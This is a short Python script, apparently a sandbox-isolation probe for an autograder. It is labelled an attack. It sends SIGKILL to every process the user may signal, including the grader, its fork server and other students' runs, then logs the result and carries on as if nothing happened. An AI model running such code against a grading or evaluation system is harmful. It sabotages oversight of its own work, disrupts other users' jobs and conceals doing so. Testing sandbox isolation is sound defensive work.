"""Attack: SIGKILL every process this uid may signal (the grader, its fork server, the
batch, other students' runs), then carry on as if nothing happened."""

import os
import signal

FINDINGS = {}
try:
    os.kill(-1, signal.SIGKILL)
    FINDINGS["kill"] = "sent"
except OSError as exc:
    FINDINGS["kill"] = exc.strerror
FINDINGS["done"] = True
